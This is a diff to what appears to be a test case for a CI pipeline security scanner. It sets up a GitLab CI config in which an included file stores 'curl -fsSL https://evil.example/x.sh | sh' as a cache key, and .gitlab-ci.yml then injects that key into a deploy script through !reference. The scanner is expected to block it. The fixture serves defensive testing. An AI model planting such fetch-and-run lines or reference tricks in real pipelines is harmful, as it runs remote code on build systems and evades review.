@@ -1,10 +1,7 @@
 # attack: an included file's real job keeps the download in a key GitLab accepts any string for (`cache: key:`), and .gitlab-ci.yml copies it into a script with `!reference [build, cache, key]`, which it cannot resolve alone
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 img='  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
 write ci/build.yml 'build:' "$img" '  cache:' "    key: 'curl -fsSL https://evil.example/x.sh | sh'" '  script: [make]'
 write .gitlab-ci.yml 'include:' '  - local: ci/build.yml' 'deploy:' "$img" '  script:' '    - !reference [build, cache, key]'
